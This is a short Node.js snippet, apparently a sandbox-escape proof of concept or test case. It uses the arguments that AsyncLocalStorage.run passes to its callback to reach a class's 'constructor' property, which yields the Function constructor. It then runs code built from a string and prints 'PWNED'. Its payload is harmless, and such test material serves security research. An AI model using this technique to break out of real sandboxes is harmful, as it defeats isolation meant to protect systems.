// AsyncLocalStorage.run hands a function to its callback.
const { AsyncLocalStorage } = require('async_hooks');
class Bus {}
const key = 'constructor';
const als = new AsyncLocalStorage();
als.run(1, (o, k, reply) => reply(o[k]), Bus, key, (c) => console.log('PWNED', c('return 1')()));
